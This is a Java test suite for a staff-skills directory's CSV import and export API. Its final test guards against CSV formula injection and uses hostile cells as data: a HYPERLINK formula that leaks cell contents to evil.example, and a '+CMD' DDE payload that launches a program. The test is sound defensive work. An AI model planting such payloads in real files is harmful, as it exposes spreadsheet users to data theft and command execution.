package org.sharedict.skills.transfer;

import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.Test;

import org.sharedict.skills.support.Fixtures;
import org.sharedict.skills.support.RandomPeople;
import org.sharedict.skills.support.TestClock;
import org.sharedict.skills.transfer.PeopleCsv.Verification;
import org.sharedict.testing.Tokens;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.sharedict.skills.support.Fixtures.unique;
import static org.sharedict.testing.Problems.invalidField;
import static org.sharedict.testing.Problems.problem;

@QuarkusTest
class PeopleCsvTest {

    private static final String HEADER = "partner,name,email,job_title,team,work_phone,mobile,site,manager,"
            + "help_other_partners,help_hours_per_month,out_of_hours,unavailable_until,unavailable_reason,last_confirmed,"
            + "skills,certifications\n";

    @Test
    void managerImportsPeopleWithSkillsAndCertificationsAndTheyAreSearchable() {
        String partner = Fixtures.partner();
        String alias = unique("XenApp");
        String citrix = Fixtures.skill(Fixtures.category(), unique("Citrix "), alias);
        String sql = Fixtures.skill(Fixtures.category(), unique("SQL Server "));
        String a = unique("a").toLowerCase() + "@csv.example.gov.uk";
        String b = unique("b").toLowerCase() + "@csv.example.gov.uk";
        String csv = HEADER
                + partner + ",Ada Import," + a
                + ",ICT Manager,ICT,01632 960001,07700 900001,Town Hall,yes,yes,10,no,,,2026-01-15,"
                + "\"" + citrix + ":5:verified; " + sql + ":3\",\"CCP-V|Citrix|C-1|2099-01-01|" + citrix + "\"\n"
                + partner + ",Bob Import," + b + ",Engineer,ICT,,,,no,no,0,yes,,,," + alias.toLowerCase() + ":2,\n";
        given().auth()
                .oauth2(Tokens.manager(partner))
                .contentType("text/csv")
                .body(csv)
                .when()
                .post("/api/people/import")
                .then()
                .statusCode(200)
                .body("created", equalTo(2))
                .body("updated", equalTo(0))
                .body("skillsSet", equalTo(3))
                .body("certificationsSet", equalTo(1))
                .body("people.row", contains(2, 3));
        given().auth()
                .oauth2(Tokens.viewer("X"))
                .when()
                .get("/api/experts?skill=" + citrix)
                .then()
                .body("items.person.name", contains("Ada Import", "Bob Import"))
                .body("items[0].matched[0].verified", equalTo(true))
                .body("items[0].matched[0].certificationValid", equalTo(true))
                .body("items[0].matched[0].lastConfirmed", equalTo("2026-01-15"));
        given().auth()
                .oauth2(Tokens.viewer("X"))
                .when()
                .get("/api/people?email=" + a)
                .then()
                .body("items[0].manager", equalTo(true))
                .body("items[0].lastConfirmed", equalTo("2026-01-15"));
    }

    @Test
    void aFileWithOneBadRowChangesNothingAndReportsEveryRowAndField() {
        String partner = Fixtures.partner();
        String skill = Fixtures.skill(Fixtures.category(), unique("Backups "));
        String good = unique("good").toLowerCase() + "@csv.example.gov.uk";
        String csv = HEADER
                + partner + ",Good Row," + good + ",,,,,,no,yes,4,no,,,," + skill + ":3,\n"
                + partner + ",,not-an-email,,,,,,maybe,yes,4,no,,,," + skill + ":9,\n"
                + "NOSUCH" + unique("") + ",Bad Partner," + unique("c").toLowerCase()
                + "@csv.example.gov.uk,,,,,,no,no,0,no,31/02/2026,,,NO_SUCH_SKILL_" + unique("") + ":2,\n";
        given().auth()
                .oauth2(Tokens.admin())
                .contentType("text/csv")
                .body(csv)
                .when()
                .post("/api/people/import")
                .then()
                .spec(problem(400))
                .body("detail", equalTo("7 problem(s) in 2 row(s); nothing was imported"))
                .body("errors.field", hasItem("row 3: name"))
                .body("errors.field", hasItem("row 3: email"))
                .body("errors.field", hasItem("row 3: manager"))
                .body("errors.field", hasItem("row 3: skills"))
                .body("errors.field", hasItem("row 4: partner"))
                .body("errors.field", hasItem("row 4: unavailable_until"))
                .body("errors.field", hasItem("row 4: skills"))
                .body("rows.row", hasItem(3));
        given().auth()
                .oauth2(Tokens.admin())
                .when()
                .get("/api/people?email=" + good)
                .then()
                .body("totalItems", equalTo(0));
    }

    @Test
    void managersImportOnlyTheirOwnPartnersPeopleAndViewersNone() {
        String mine = Fixtures.partner();
        String theirs = Fixtures.partner();
        String csv = "partner,name,email\n" + mine + ",Mine," + unique("m").toLowerCase() + "@csv.example.gov.uk\n"
                + theirs + ",Theirs," + unique("t").toLowerCase() + "@csv.example.gov.uk\n";
        given().auth()
                .oauth2(Tokens.manager(mine))
                .contentType("text/csv")
                .body(csv)
                .when()
                .post("/api/people/import")
                .then()
                .spec(invalidField("row 3: partner"));
        given().auth()
                .oauth2(Tokens.viewer(mine))
                .contentType("text/csv")
                .body(csv)
                .when()
                .post("/api/people/import")
                .then()
                .spec(problem(403));
        given().contentType("text/csv")
                .body(csv)
                .when()
                .post("/api/people/import")
                .then()
                .spec(problem(401));
        given().auth()
                .oauth2(Tokens.admin())
                .when()
                .get("/api/people?partner=" + mine)
                .then()
                .body("totalItems", equalTo(0));
    }

    @Test
    void importMatchesExistingPeopleByEmailAndUpdatesOnlyTheColumnsGiven() {
        String partner = Fixtures.partner();
        String skill = Fixtures.skill(Fixtures.category(), unique("Update "));
        var body = Fixtures.personBody(partner, "Existing Person");
        long id = Fixtures.person(body);
        String csv = "partner,name,email,job_title,skills\n" + partner + ",Existing Person," + body.get("email")
                + ",Senior Engineer," + skill + ":4:verified\n";
        given().auth()
                .oauth2(Tokens.manager(partner))
                .contentType("text/csv")
                .body(csv)
                .when()
                .post("/api/people/import?dryRun=true")
                .then()
                .statusCode(200)
                .body("dryRun", equalTo(true))
                .body("updated", equalTo(1));
        given().auth()
                .oauth2(Tokens.admin())
                .when()
                .get("/api/people/" + id)
                .then()
                .body("jobTitle", equalTo("Infrastructure Engineer"));
        given().auth()
                .oauth2(Tokens.manager(partner))
                .contentType("text/csv")
                .body(csv)
                .when()
                .post("/api/people/import")
                .then()
                .statusCode(200)
                .body("updated", equalTo(1))
                .body("people[0].id", equalTo((int) id));
        given().auth()
                .oauth2(Tokens.admin())
                .when()
                .get("/api/people/" + id)
                .then()
                .body("jobTitle", equalTo("Senior Engineer"))
                .body("mobile", equalTo("07700 900123"));
        given().auth()
                .oauth2(Tokens.admin())
                .when()
                .get("/api/people/" + id + "/skills/" + skill)
                .then()
                .body("level", equalTo(4))
                .body("verifiedBy", equalTo("manager-" + partner.toLowerCase()));
    }

    @Test
    void malformedFilesAreRefusedClearly() {
        given().auth()
                .oauth2(Tokens.admin())
                .contentType("text/csv")
                .body("")
                .when()
                .post("/api/people/import")
                .then()
                .spec(problem(400));
        given().auth()
                .oauth2(Tokens.admin())
                .contentType("text/csv")
                .body("partner,name,email,salary\nX,Y,z@example.gov.uk,1\n")
                .when()
                .post("/api/people/import")
                .then()
                .spec(invalidField("header"));
        given().auth()
                .oauth2(Tokens.admin())
                .contentType("text/csv")
                .body("partner,name\nX,Y\n")
                .when()
                .post("/api/people/import")
                .then()
                .spec(invalidField("header"));
        given().auth()
                .oauth2(Tokens.admin())
                .contentType("text/csv")
                .body("partner,name,email\n")
                .when()
                .post("/api/people/import")
                .then()
                .spec(invalidField("body"));
        String partner = Fixtures.partner();
        String email = unique("d").toLowerCase() + "@csv.example.gov.uk";
        given().auth()
                .oauth2(Tokens.admin())
                .contentType("text/csv")
                .body("partner,name,email\n" + partner + ",One," + email + "\n" + partner + ",Two,"
                        + email.toUpperCase() + "\n")
                .when()
                .post("/api/people/import")
                .then()
                .spec(invalidField("row 3: email"));
    }

    @Test
    void exportWritesTheImportFormatAndRoundTrips() {
        String partner = Fixtures.partner();
        String skill = Fixtures.skill(Fixtures.category(), unique("Round Trip "));
        var body = Fixtures.personBody(partner, "Round, Tripper");
        long id = Fixtures.person(body);
        Fixtures.holds(id, skill, 4, true);
        Fixtures.certification(id, skill, "Cert One", "2030-01-31");
        String csv = given().auth()
                .oauth2(Tokens.viewer("X"))
                .when()
                .get("/api/people/export?partner=" + partner)
                .then()
                .statusCode(200)
                .contentType(startsWith("text/csv"))
                .header("Content-Disposition", containsString("people-" + partner.toLowerCase() + ".csv"))
                .body(startsWith(HEADER.trim()))
                .body(containsString("\"Round, Tripper\""))
                .body(containsString(skill + ":4:verified"))
                .body(containsString("Cert One|Test Issuer||2030-01-31|" + skill))
                .extract()
                .asString();
        given().auth()
                .oauth2(Tokens.manager(partner))
                .contentType("text/csv")
                .body(csv)
                .when()
                .post("/api/people/import")
                .then()
                .statusCode(200)
                .body("updated", equalTo(1))
                .body("created", equalTo(0));
        given().auth()
                .oauth2(Tokens.admin())
                .when()
                .get("/api/people/" + id + "/certifications")
                .then()
                .body("name", contains("Cert One"));
        given().auth()
                .oauth2(Tokens.admin())
                .when()
                .get("/api/people/" + id + "/skills/" + skill)
                .then()
                .body("verified", equalTo(true));
        given().auth()
                .oauth2(Tokens.admin())
                .when()
                .get("/api/people/export?partner=NOPE" + unique(""))
                .then()
                .spec(invalidField("partner"));
    }

    /**
     * Random people put in through the API (quotes, commas, {@code ; | : \}, line breaks,
     * formulas, phone numbers with {@code +}, accents, emoji, empty optional fields, several
     * skills, renewed certifications), exported, deleted, and imported back from the export: every
     * value is as it was, and exporting again gives the same file byte for byte.
     */
    @Test
    void exportedPeopleImportBackEqual() {
        long seed = Long.getLong("test.seed", System.nanoTime());
        Random random = new Random(seed);
        RandomPeople generator = new RandomPeople(random, TestClock.today());
        String category = Fixtures.category();
        List<String> skills = List.of(
                Fixtures.skill(category, unique("Round ")),
                Fixtures.skill(category, unique("Trip ")),
                Fixtures.skill(category, unique("Every ")),
                Fixtures.skill(category, unique("Value ")));
        List<String> partners = List.of(Fixtures.partner(), Fixtures.partner());
        Map<String, Long> ids = new HashMap<>();
        for (int n = 0; n < 12; n++) {
            PeopleCsv.Line line =
                    generator.person(partners.get(n % 2), unique(".").toLowerCase(), skills, false);
            ids.put(line.email(), create(line, seed));
        }
        Map<String, Map<String, Object>> before = new HashMap<>();
        ids.forEach((email, id) -> before.put(email, stored(id)));
        List<String> exports = partners.stream().map(PeopleCsvTest::export).toList();

        ids.values()
                .forEach(id -> given().auth()
                        .oauth2(Tokens.admin())
                        .when()
                        .delete("/api/people/" + id)
                        .then()
                        .statusCode(204));
        for (String csv : exports) {
            given().auth()
                    .oauth2(Tokens.admin())
                    .contentType("text/csv; charset=UTF-8")
                    .body(csv.getBytes(StandardCharsets.UTF_8))
                    .when()
                    .post("/api/people/import")
                    .then()
                    .statusCode(200)
                    .body("created", equalTo(6))
                    .body("encoding", equalTo("UTF-8"));
        }

        for (String email : ids.keySet()) {
            long id = given().auth()
                    .oauth2(Tokens.admin())
                    .queryParam("email", email)
                    .when()
                    .get("/api/people")
                    .then()
                    .body("totalItems", equalTo(1))
                    .extract()
                    .jsonPath()
                    .getLong("items[0].id");
            assertEquals(before.get(email), stored(id), "seed " + seed + ", " + email);
        }
        assertEquals(exports, partners.stream().map(PeopleCsvTest::export).toList(), "seed " + seed);
    }

    private static long create(PeopleCsv.Line l, long seed) {
        Map<String, Object> body = new HashMap<>();
        body.put("partner", l.partner());
        body.put("name", l.name());
        body.put("email", l.email());
        body.put("jobTitle", l.jobTitle());
        body.put("team", l.team());
        body.put("workPhone", l.workPhone());
        body.put("mobile", l.mobile());
        body.put("site", l.site());
        body.put("manager", l.manager());
        body.put("helpOtherPartners", l.helpOtherPartners());
        body.put("helpHoursPerMonth", l.helpHoursPerMonth());
        body.put("outOfHours", l.outOfHours());
        body.put(
                "unavailableUntil",
                l.unavailableUntil() == null ? null : l.unavailableUntil().toString());
        body.put("unavailableReason", l.unavailableReason());
        body.put("lastConfirmed", l.lastConfirmed().toString());
        long id = given().auth()
                .oauth2(Tokens.admin())
                .contentType(ContentType.JSON)
                .body(body)
                .when()
                .post("/api/people")
                .then()
                .statusCode(201)
                .body("name", equalTo(l.name()))
                .extract()
                .jsonPath()
                .getLong("id");
        for (PeopleCsv.SkillCell s : l.skills()) {
            given().auth()
                    .oauth2(Tokens.admin())
                    .contentType(ContentType.JSON)
                    .body(Map.of(
                            "skill",
                            s.term(),
                            "level",
                            s.level(),
                            "verified",
                            s.verification() == Verification.VERIFIED))
                    .when()
                    .post("/api/people/" + id + "/skills")
                    .then()
                    .statusCode(201);
        }
        for (PeopleCsv.CertCell c : l.certifications()) {
            Map<String, Object> cert = new HashMap<>();
            cert.put("name", c.name());
            cert.put("issuer", c.issuer());
            cert.put("number", c.number());
            cert.put("obtained", c.obtained() == null ? null : c.obtained().toString());
            cert.put("expires", c.expires() == null ? null : c.expires().toString());
            cert.put("skill", c.skill());
            given().auth()
                    .oauth2(Tokens.admin())
                    .contentType(ContentType.JSON)
                    .body(cert)
                    .when()
                    .post("/api/people/" + id + "/certifications")
                    .then()
                    .statusCode(201)
                    .body("name", equalTo(c.name()));
        }
        return id;
    }

    /** What the API answers about a person, less what the CSV does not carry (IDs, versions, times, per-skill dates). */
    private static Map<String, Object> stored(long id) {
        Map<String, Object> person = new HashMap<>(given().auth()
                .oauth2(Tokens.admin())
                .when()
                .get("/api/people/" + id)
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getMap(""));
        List.of("id", "version", "createdAt", "updatedAt").forEach(person::remove);
        List<Map<String, Object>> skills = given().auth()
                .oauth2(Tokens.admin())
                .when()
                .get("/api/people/" + id + "/skills")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getList("");
        person.put(
                "skills",
                skills.stream()
                        .map(s -> List.of(s.get("skill"), s.get("level"), s.get("verified")))
                        .toList());
        List<Map<String, Object>> certs = given().auth()
                .oauth2(Tokens.admin())
                .when()
                .get("/api/people/" + id + "/certifications")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getList("");
        person.put(
                "certifications",
                certs.stream()
                        .map(c -> {
                            Map<String, Object> kept = new HashMap<>(c);
                            List.of("id", "version", "updatedAt").forEach(kept::remove);
                            return kept;
                        })
                        .toList());
        return person;
    }

    private static String export(String partner) {
        return given().auth()
                .oauth2(Tokens.viewer("X"))
                .when()
                .get("/api/people/export?partner=" + partner)
                .then()
                .statusCode(200)
                .extract()
                .asString();
    }

    /** OWASP CSV injection: no cell of any CSV export starts with a character a spreadsheet runs as a formula. */
    @Test
    void noCsvExportWritesACellASpreadsheetWouldRun() {
        String partner = Fixtures.partner();
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
        String category = Fixtures.category();
        String skill = Fixtures.skill(category, "@SUM(1+1)" + unique(" "));
        Map<String, Object> body = Fixtures.personBody(partner, formula);
        body.put("mobile", "+44 7700 900123");
        body.put("jobTitle", "-2+3");
        body.put("lastConfirmed", TestClock.today().minusYears(2).toString());
        long id = Fixtures.person(body);
        Fixtures.holds(id, skill, 4, true);
        given().auth()
                .oauth2(Tokens.admin())
                .contentType(ContentType.JSON)
                .body(Map.of("name", "+CMD|' /C calc'!A0"))
                .when()
                .post("/api/people/" + id + "/certifications")
                .then()
                .statusCode(201);
        List<String> csvs = List.of(
                export(partner),
                report("/api/reports/skills/key-person-risk?format=csv&partner=" + partner),
                report("/api/reports/skills/coverage?format=csv&category=" + category),
                report("/api/reports/skills/stale?format=csv&partner=" + partner));
        for (String csv : csvs) {
            List<String> cells = cells(csv);
            assertTrue(cells.stream().noneMatch(c -> !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0), csv);
        }
        assertTrue(
                cells(csvs.get(0))
                        .containsAll(List.of("'" + formula, "'+44 7700 900123", "'-2+3", "'+CMD\\|' /C calc'!A0")),
                csvs.get(0));
        assertTrue(cells(csvs.get(1)).contains("'" + formula), csvs.get(1));
        assertTrue(cells(csvs.get(2)).stream().anyMatch(c -> c.startsWith("'@SUM(1+1)")), csvs.get(2));
        assertTrue(cells(csvs.get(3)).contains("'" + formula), csvs.get(3));
        // ...and the people export still imports back as it was.
        given().auth()
                .oauth2(Tokens.admin())
                .contentType("text/csv; charset=UTF-8")
                .body(csvs.get(0).getBytes(StandardCharsets.UTF_8))
                .when()
                .post("/api/people/import?dryRun=true")
                .then()
                .statusCode(200)
                .body("updated", equalTo(1));
        given().auth()
                .oauth2(Tokens.admin())
                .contentType("text/csv; charset=UTF-8")
                .body(csvs.get(0).getBytes(StandardCharsets.UTF_8))
                .when()
                .post("/api/people/import")
                .then()
                .statusCode(200);
        given().auth()
                .oauth2(Tokens.admin())
                .when()
                .get("/api/people/" + id)
                .then()
                .body("name", equalTo(formula))
                .body("mobile", equalTo("+44 7700 900123"))
                .body("jobTitle", equalTo("-2+3"));
        given().auth()
                .oauth2(Tokens.admin())
                .when()
                .get("/api/people/" + id + "/certifications")
                .then()
                .body("name", contains("+CMD|' /C calc'!A0"));
    }

    private static String report(String path) {
        return given().auth()
                .oauth2(Tokens.viewer("X"))
                .when()
                .get(path)
                .then()
                .statusCode(200)
                .contentType(startsWith("text/csv"))
                .extract()
                .asString();
    }

    /** Every cell as a spreadsheet reads it (RFC 4180 quoting undone, nothing else). */
    private static List<String> cells(String csv) {
        try (CSVParser parser = CSVFormat.RFC4180.parse(new StringReader(csv))) {
            List<String> out = new ArrayList<>();
            parser.forEach(r -> r.forEach(out::add));
            return out;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
